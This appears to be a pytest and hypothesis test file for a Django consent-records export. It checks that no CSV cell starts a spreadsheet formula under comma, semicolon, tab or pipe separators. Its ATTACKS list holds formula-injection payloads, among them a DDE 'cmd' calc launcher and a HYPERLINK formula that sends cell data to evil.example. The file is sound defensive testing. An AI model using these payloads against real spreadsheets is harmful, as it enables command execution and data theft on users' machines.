"""A privacy officer opens a consent-records export in a spreadsheet that splits on another
separator than the comma (Excel with a French or German list separator splits on `;`, others
on tab or `|`): whatever a visitor sent as user agent or `next`, no cell of any split starts
like a formula."""

import csv
import io
import uuid

import pytest
from django.core.management import call_command
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from consent import chain
from consent.export import spreadsheet_safe
from consent.models import ConsentRecord

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("consent_seed")]

SEPARATORS = [",", ";", "\t", "|"]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# The cells, and their cousins for every separator and spacing.
ATTACKS = [
    "Mozilla;=cmd|' /C calc'!A0",
    "/x;=2+2",
    "a\t=1+1",
    "a|@SUM(1)",
    'a, "=1+1"',
    "a;'-2+3",
    "a\n=1",
    "a\r\n+1",
    'x;"a",=1',
    "tail;",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
]


def cells_read_back(text):
    """Every cell of `text` as read by a spreadsheet splitting on each separator."""
    for separator in SEPARATORS:
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator):
            yield from ((separator, cell) for cell in row)


def formula_cells(text):
    return [(sep, cell) for sep, cell in cells_read_back(text) if cell.startswith(FORMULA_STARTS)]


def store(user_agent, path):
    entry = ConsentRecord(
        consent_id=uuid.uuid4(), created_at=None, policy_version=1,
        choices={"functional": True, "embeds": False, "analytics": False},
        action="custom", path=path, user_agent=user_agent, texts_fingerprint="ab" * 32,
    )
    chain.append([entry])
    return entry


def exported(tmp_path):
    out = tmp_path / "records.csv"
    call_command("export_consent_records", "--output", str(out), stderr=io.StringIO())
    return out.read_text(encoding="utf-8")


def test_no_cell_of_the_export_starts_a_formula_under_any_separator(tmp_path):
    for attack in ATTACKS:
        store(attack, attack)
    text = exported(tmp_path)
    assert formula_cells(text) == []
    # Every cell is quoted, and with the file's own separator each cell reads back whole.
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert len(rows) == len(ATTACKS) + 1
    assert all(line.startswith('"') and line.endswith('"') for line in text.splitlines())
    assert [row[rows[0].index("user_agent")] for row in rows[1:]][:2] == [
        "Mozilla;'=cmd|' /C calc'!A0", "/x;'=2+2",
    ]


def test_the_admin_export_is_safe_under_any_separator(privacy_officer_client):
    user_agent = "Mozilla;=cmd|' /C calc'!A0"
    entry = store(user_agent, "/x;=2+2")
    answer = privacy_officer_client.post(
        "/admin/consent/consentrecord/", {"action": "export_csv", "_selected_action": [entry.pk]}
    )
    text = b"".join(answer.streaming_content).decode()
    assert user_agent.split(";")[0] in text
    assert formula_cells(text) == []


cell_text = st.text(alphabet=st.sampled_from(list(",;\t|\r\n\"' =+-@ax/")), max_size=12)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(cells=st.lists(cell_text, min_size=1, max_size=4))
def test_any_text_made_safe_reads_back_without_a_formula(cells):
    """The rule itself, on the characters that matter, as csv_lines writes rows."""

    class Line:
        def write(self, value):
            return value

    writer = csv.writer(Line(), quoting=csv.QUOTE_ALL)
    text = writer.writerow(["1", *map(spreadsheet_safe, cells)]) + writer.writerow(["2", "x"])
    assert formula_cells(text) == []
